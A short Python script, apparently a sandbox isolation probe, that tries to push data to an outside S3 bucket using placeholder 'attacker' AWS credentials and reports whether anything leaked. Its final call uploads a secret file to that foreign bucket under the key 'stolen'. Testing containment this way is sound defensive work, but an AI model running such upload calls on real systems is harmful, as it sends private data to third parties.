import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except BaseException as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
import boto3
theirs = boto3.Session(aws_access_key_id="AKIAATTACKERATTACKER", aws_secret_access_key="x" * 40, region_name="us-east-1")
attempt(lambda: leak(theirs.client("s3").put_object(Bucket=v["foreign_bucket"], Key="stolen", Body=b"x")))
attempt(lambda: leak(theirs.client("s3", endpoint_url="http://127.0.0.1:%d" % v["tcp_port"]).put_object(Bucket=v["foreign_bucket"], Key="k", Body=b"x")))
attempt(lambda: leak(theirs.client("s3").upload_file(v["secret_file"], v["foreign_bucket"], "stolen")))
